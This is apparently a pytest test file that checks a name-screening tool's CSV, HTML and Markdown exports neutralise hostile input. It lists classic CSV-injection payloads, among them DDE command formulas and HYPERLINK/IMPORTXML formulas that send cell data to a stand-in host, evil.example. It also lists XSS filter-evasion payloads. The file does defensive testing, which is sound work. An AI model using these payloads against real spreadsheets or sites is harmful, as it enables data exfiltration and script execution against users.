"""Exports stay inert with hostile names: formulas neutralised in CSV, markup escaped in HTML/MD.

The payloads are the classic ones of OWASP's CSV-injection page and XSS filter-evasion cheat
sheet, written here as facts. They reach every place a name can appear: the people list
(query names), registry captions, positions, bodies, relationship roles and source URLs.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner

from tiescreen.cli import cli
from tiescreen.pipeline import ScreenResult, screen
from tiescreen.report import render
from tiescreen.report.safe import csv_cell

CSV_INJECTION = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Шигина")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=+1",
    "@1",
    "-1",
    "+1",
    "Шигина\r=1+1",
    "Шигина\r\n@SUM(A1)",
)

XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "</textarea></title></style><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "<!--",
    "]]><script>alert(1)</script>",
)

PAYLOADS = CSV_INJECTION + XSS
BAD_URLS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)")
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _registry(path: Path) -> Path:
    lines = []
    for i, payload in enumerate(PAYLOADS):
        name = f"{payload} Шигина Олеся Владимировна"
        url = BAD_URLS[i % len(BAD_URLS)]
        lines += [
            {"id": f"p-{i}", "schema": "Person", "properties": {"name": [name], "sourceUrl": [url]}},
            {"id": f"b-{i}", "schema": "PublicBody", "properties": {"name": [f"{payload} Администрация района"]}},
            {"id": f"pos-{i}", "schema": "Position", "properties": {"name": [payload], "organization": [f"b-{i}"]}},
            {"id": f"o-{i}", "schema": "Occupancy", "properties": {"holder": [f"p-{i}"], "post": [f"pos-{i}"]}},
            {"id": f"r-{i}", "schema": "Person", "properties": {"name": [f"Шигина {payload} Анна"]}},
            {"id": f"f-{i}", "schema": "Family", "properties": {"person": [f"p-{i}"], "relative": [f"r-{i}"],
             "relationship": [payload]}},
        ]  # fmt: skip
    path.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in lines), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> ScreenResult:
    tmp = tmp_path_factory.mktemp("exports")
    people = [f"{p} Шигина Олеся Владимировна" for p in PAYLOADS] + list(PAYLOADS)
    res = screen(people, [_registry(tmp / "hostile.ftm.json")], db=tmp / "s.duckdb", title=XSS[0])
    assert sum(1 for p in res.people if p.matches) >= len(PAYLOADS) // 2, "hostile names should still match"
    return res


def _assert_inert_cells(table: list[list[str]]) -> int:
    checked = 0
    for row in table:
        for cell in row:
            checked += 1
            if cell[:1] in DANGEROUS_START:
                try:
                    float(cell)
                except ValueError:
                    pytest.fail(f"CSV cell starts a formula: {cell!r}")
            assert "\r" not in cell, f"bare carriage return in a cell: {cell!r}"
    return checked


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_neutralises_every_payload(payload: str) -> None:
    out = csv_cell(payload)
    assert out[:1] not in DANGEROUS_START
    assert not out.lstrip().startswith(("=", "+", "@"))


def test_csv_report_has_no_live_formula(result: ScreenResult) -> None:
    text = render(result, "csv")
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) > len(PAYLOADS)
    assert _assert_inert_cells(table) > 10 * len(PAYLOADS)
    seen = "\n".join(",".join(r) for r in table)
    assert "'=cmd|' /C calc'!A0" in seen  # kept, readable, but inert


def test_score_pairs_csv_has_no_live_formula(tmp_path: Path) -> None:
    pairs = tmp_path / "pairs.csv"
    with pairs.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["name1", "name2", "note"])
        for p in PAYLOADS:
            writer.writerow([f"{p} Шигина", "Shigina", p])
            writer.writerow([p, p, p])
    out = CliRunner().invoke(cli, ["score-pairs", str(pairs)])
    assert out.exit_code == 0, out.output
    table = list(csv.reader(io.StringIO(out.stdout, newline="")))
    assert len(table) == 1 + 2 * len(PAYLOADS)
    _assert_inert_cells(table)


def test_html_report_escapes_every_name(result: ScreenResult) -> None:
    page = render(result, "html")
    soup = BeautifulSoup(page, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in ("script", "iframe", "object", "embed", "input", "textarea", "math"), tag
        for attr, value in tag.attrs.items():
            assert not attr.lower().startswith("on"), (tag.name, attr)
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attr in ("href", "src", "xlink:href", "data", "action"):
                assert not re.match(r"\s*(javascript|data|vbscript):", text, re.I), (tag.name, attr, text)
    for payload in XSS:
        if "<" in payload:
            assert payload not in page
    assert len(soup.find_all("body")) <= 1
    body_text = soup.get_text()
    assert "<script>alert(1)</script>" in body_text  # shown as text, not run


def test_markdown_report_escapes_every_name(result: ScreenResult) -> None:
    text = render(result, "md")
    for payload in XSS:
        if "<" in payload or "](" in payload:
            assert payload not in text, payload
    # Every '<' from the data is escaped; the only raw ones open autolinks to http(s) sources.
    for m in re.finditer(r"(?<!\\)<", text):
        assert re.match(r"<https?://[^\s<>]+>", text[m.start() :]), text[m.start() : m.start() + 60]
    assert "](javascript" not in text and "](http://evil" not in text  # no live Markdown links or images


def test_json_outputs_stay_json(result: ScreenResult) -> None:
    lines = render(result, "jsonl").splitlines()
    assert len(lines) == len(result.people)
    for line in lines:
        json.loads(line)
    assert json.loads(render(result, "json"))["people"]
